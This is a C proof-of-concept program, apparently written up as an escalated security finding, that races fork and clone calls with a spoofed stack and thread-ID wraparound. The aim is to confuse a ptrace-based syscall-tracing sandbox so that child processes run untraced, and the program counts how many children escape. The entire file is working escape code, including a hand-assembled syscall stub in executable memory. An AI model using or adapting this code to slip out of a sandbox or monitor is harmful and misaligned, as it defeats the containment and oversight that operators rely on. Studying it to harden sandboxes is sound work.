/* F2 escalated: swallowed spoof children leave stale table entries; tids wrap
 * (pid_max 32768); a later park's H that gets such a tid is taken by the
 * core for the dead spoof child and resumed: it returns through page 0x1000
 * into c_exit, its exit ends X's vfork wait, and X may run with no tracer.
 * Every forked child checks with a raw openat (ENOSYS = untraced).
 * Usage: park_chain SECONDS */
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct shared { volatile long forks, untraced, qs; };
static struct shared *sh;
static long (*stub)(long nr, long a, long b);

__attribute__((naked)) static void c_exit(void)
{
	__asm__ volatile("mov $60, %eax\n xor %edi, %edi\n syscall\n hlt");
}

static long raw_open(void)
{
	static const char path[] = "/etc/hostname";
	long ret;
	__asm__ volatile("syscall" : "=a"(ret) : "0"(257L), "D"(-100L), "S"(path), "d"(0L) : "rcx", "r11", "memory");
	return ret;
}

static void *forker(void *arg)
{
	(void)arg;
	for (;;) {
		long r = stub(57, 0, 0);
		if (r == 0) {
			if (raw_open() == -38)
				__atomic_fetch_add(&sh->untraced, 1, __ATOMIC_RELAXED);
			syscall(SYS_exit_group, 0);
		}
		if (r > 0) {
			__atomic_fetch_add(&sh->forks, 1, __ATOMIC_RELAXED);
			waitpid((pid_t)r, NULL, 0);
		}
	}
	return NULL;
}

static void *spoofer(void *arg)
{
	(void)arg;
	stub(SYS_clone, CLONE_VM | CLONE_VFORK | CLONE_THREAD | CLONE_SIGHAND, 0x1000);
	return NULL;
}

int main(int argc, char **argv)
{
	int secs = argc > 1 ? atoi(argv[1]) : 30;
	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (mmap((void *)0x1000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED)
		return 2;
	*(uint64_t *)0x1000 = (uint64_t)(uintptr_t)c_exit;
	static const unsigned char code[] = { 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x0f, 0x05, 0xc3 };
	void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memcpy(p, code, sizeof code);
	stub = (long (*)(long, long, long))p;
	time_t end = time(NULL) + secs;
	while (time(NULL) < end) {
		pid_t q = fork();
		if (q == 0) {
			pthread_t t;
			for (int i = 0; i < 3; i++)
				pthread_create(&t, NULL, forker, NULL);
			/* spoofers keep coming: each either returns or is swallowed */
			for (int i = 0; i < 40; i++) {
				pthread_create(&t, NULL, spoofer, NULL);
				usleep(5000);
			}
			syscall(SYS_exit_group, 0);
		}
		sh->qs++;
		waitpid(q, NULL, 0);
	}
	printf("qs %ld forks %ld untraced %ld\n", sh->qs, sh->forks, sh->untraced);
	return 0;
}
